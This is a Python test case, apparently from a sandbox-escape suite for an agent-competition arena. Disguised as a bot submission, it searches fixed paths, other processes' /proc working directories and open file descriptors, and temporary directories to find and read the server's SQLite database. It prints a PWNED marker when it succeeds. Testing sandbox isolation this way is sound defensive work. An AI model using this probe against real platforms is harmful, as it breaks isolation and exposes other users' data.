# category: read-files
# attack: find and read the server's SQLite database (cwd-relative, the parent's cwd, /proc/*/fd, a walk of /tmp)
# marker: PWNED-read_server_database
# expect: ERROR|DONE
MARK = "PWNED" + "-read_server_database"

try:
    import os
except ImportError as exc:
    os = None
    print("no os:", repr(exc))

candidates = ["arena.db", "../arena.db", "/work/main/arena.db", "/root/arena.db", "/arena.db", "/tmp/arena.db"]
if os is not None:
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except Exception as exc:
        print("no /proc:", repr(exc))
        pids = []
    for pid in pids:
        candidates.append(f"/proc/{pid}/cwd/arena.db")
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except Exception:
            continue
        for fd in fds:
            try:
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
            except Exception:
                continue
            if target.endswith(".db") or ".db-" in target:
                candidates += [f"/proc/{pid}/fd/{fd}", target]
    seen = 0
    for top in ("/tmp", "/var/tmp", "/root", "/work"):
        try:
            walker = os.walk(top)
            for directory, _dirs, files in walker:
                seen += 1
                if seen > 3000:
                    break
                candidates += [os.path.join(directory, f) for f in files if f.endswith(".db")]
        except Exception as exc:
            print("walk", top, "failed:", repr(exc))

for path in candidates:
    try:
        with open(path, "rb") as file:
            head = file.read(1 << 20)
    except Exception:
        continue
    if head.startswith(b"SQLite format 3"):
        print(MARK, path, "canary" if b"ARENA-CANARY" in head else "", head[:16])
print("tried", len(candidates), "paths")


def agent(observation, configuration):
    return observation.step % configuration.signs
